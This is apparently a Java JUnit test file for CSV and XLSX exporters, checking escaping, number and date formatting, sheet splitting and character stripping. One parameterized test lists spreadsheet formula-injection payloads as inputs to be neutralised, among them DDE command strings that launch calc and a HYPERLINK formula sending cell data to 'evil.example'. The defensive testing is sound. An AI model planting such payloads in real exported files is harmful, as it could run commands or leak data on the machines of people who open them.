package org.verger.exports;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What stands in the files, as programs of others read them. */
class TableFilesTest {

  private static final ZoneId CHICAGO = ZoneId.of("America/Chicago");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "+1 312 555 0100",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "\uff20SUM(1)",
        "=\"a\nb\",;"
      })
  void whatASpreadsheetWouldTakeForAFormulaIsText(String text) throws IOException {
    List<CsvRecord> csv = csv(List.of("Name"), List.of(text));
    assertThat(csv.get(1).getField(0)).isEqualTo("'" + text);
    Cell cell = xlsx(List.of(text)).getFirst().getCell(0);
    assertThat(cell.getType()).isEqualTo(CellType.STRING);
    assertThat(cell.getFormula()).isNull();
    assertThat(cell.getRawValue()).isEqualTo(text.replace("\r", ""));
  }

  @Test
  void aHeadingIsAsHarmlessAsACell() throws IOException {
    assertThat(csv(List.of("=1+1"), List.of("a")).getFirst().getField(0)).isEqualTo("'=1+1");
  }

  @Test
  void numbersDaysAndTimesStayWhatTheyAre() throws IOException {
    List<Object> cells =
        Arrays.asList(
            new BigDecimal("-1234.50"),
            -7,
            LocalDate.of(2026, 11, 1),
            Instant.parse("2026-11-21T18:30:00.123Z"),
            true,
            null,
            "José \"Pepe\", Jr.");
    List<CsvRecord> csv = csv(List.of("a", "b", "c", "d", "e", "f", "g"), cells);
    assertThat(csv.get(1).getFields())
        .containsExactly(
            "-1234.50",
            "-7",
            "2026-11-01",
            "2026-11-21T12:30-06:00",
            "true",
            "",
            "José \"Pepe\", Jr.");
    Row row = xlsx(cells).getFirst();
    assertThat(row.getCellAsNumber(0)).contains(new BigDecimal("-1234.50"));
    assertThat(row.getCellAsDate(2).orElseThrow().toLocalDate())
        .isEqualTo(LocalDate.of(2026, 11, 1));
    assertThat(row.getCellAsDate(3).orElseThrow()).hasToString("2026-11-21T12:30");
    assertThat(row.getCellAsBoolean(4)).contains(true);
    assertThat(row.getCellAsString(6)).contains("José \"Pepe\", Jr.");
  }

  @Test
  void aCsvBeginsWithAByteOrderMarkAndEndsLinesAsTheStandardSays() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvFile file = new CsvFile(out, List.of("Name", "City"), CHICAGO);
    file.add(List.of("Ana", "Łódź"));
    file.finish();
    assertThat(out.toString(StandardCharsets.UTF_8)).isEqualTo("\ufeffName,City\r\nAna,Łódź\r\n");
  }

  @Test
  void whatASheetCannotHoldGoesOnTheNextWithItsHeading() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    XlsxFile file = new XlsxFile(out, List.of("Number"), CHICAGO, 4);
    for (int number = 1; number <= 7; number++) {
      file.add(List.of(number));
    }
    file.finish();
    try (ReadableWorkbook book =
        new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      List<Sheet> sheets = book.getSheets().toList();
      assertThat(sheets).hasSize(3);
      assertThat(sheets)
          .allSatisfy(
              sheet -> assertThat(sheet.read().getFirst().getCellText(0)).isEqualTo("Number"));
      assertThat(sheets.get(1).read()).hasSize(4);
      assertThat(sheets.get(2).read().get(1).getCellAsNumber(0)).contains(BigDecimal.valueOf(7));
    }
    assertThat(XlsxFile.ROWS_PER_SHEET).isEqualTo(1_048_576);
  }

  @Test
  void lettersThatNoSpreadsheetCanReadAreLeftOut() throws IOException {
    assertThat(xlsx(List.of("a\u0001b\ud800c\uffffd")).getFirst().getCellText(0)).isEqualTo("abcd");
    assertThat(xlsx(List.of("x".repeat(40_000))).getFirst().getCellText(0)).hasSize(32_767);
  }

  @Test
  void noTextIsKeptForTheWholeWorkbook(@TempDir Path folder) throws IOException {
    Path path = folder.resolve("people.xlsx");
    try (OutputStream out = Files.newOutputStream(path)) {
      XlsxFile file = new XlsxFile(out, List.of("Name"), CHICAGO, XlsxFile.ROWS_PER_SHEET);
      file.add(List.of("unmistakable"));
      file.finish();
    }
    try (ZipFile zip = new ZipFile(path.toFile())) {
      for (ZipEntry entry : Collections.list(zip.entries())) {
        String content =
            new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
        assertThat(content.contains("unmistakable"))
            .isEqualTo(entry.getName().startsWith("xl/worksheets/"));
      }
    }
  }

  private static List<CsvRecord> csv(List<String> columns, List<?> cells) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvFile file = new CsvFile(out, columns, CHICAGO);
    file.add(cells);
    file.finish();
    try (CsvReader<CsvRecord> reader =
        CsvReader.builder()
            .detectBomHeader(true)
            .ofCsvRecord(new ByteArrayInputStream(out.toByteArray()))) {
      return reader.stream().toList();
    }
  }

  private static List<Row> xlsx(List<?> cells) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    XlsxFile file = new XlsxFile(out, List.of("Heading"), CHICAGO, XlsxFile.ROWS_PER_SHEET);
    file.add(cells);
    file.finish();
    try (ReadableWorkbook book =
        new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      List<Row> rows = book.getFirstSheet().read();
      return rows.subList(1, rows.size());
    }
  }
}
